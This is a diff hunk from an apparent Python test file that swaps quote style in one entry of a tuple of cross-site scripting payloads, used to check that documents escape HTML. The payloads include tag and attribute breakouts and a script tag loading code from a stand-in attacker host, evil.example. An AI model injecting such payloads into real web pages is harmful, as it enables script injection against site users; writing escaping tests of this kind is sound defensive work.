@@ -10,7 +10,7 @@ from allegedly.sources.document import make_document
 PAYLOADS = (
     "<script>window.owned = 1</script>",
     "<img src=x onerror='window.owned = 1'>",
-    "\"><svg onload=window.owned=1><a title=\"",
+    '"><svg onload=window.owned=1><a title="',
     "' autofocus onfocus='window.owned=1",
     "</title></style></textarea><script src=https://evil.example/x.js></script>",
     "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
